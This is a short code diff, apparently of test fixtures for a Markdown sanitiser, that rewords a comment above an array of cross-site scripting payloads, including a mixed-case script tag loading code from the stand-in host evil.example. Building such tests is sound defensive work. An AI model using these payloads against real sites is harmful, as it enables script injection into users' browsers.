@@ -1,4 +1,4 @@
-/** Ways to smuggle a script, a foreign request or a foreign frame through Markdown. Each holds the word 'bell'. */
+/** Ways to smuggle a script, a foreign request or a foreign frame through Markdown. Each contains the word 'bell'. */
 export const INJECTIONS = [
   '<script>alert("bell")</script>',
   '<ScRiPt src=//evil.example/bell.js></sCrIpT>',
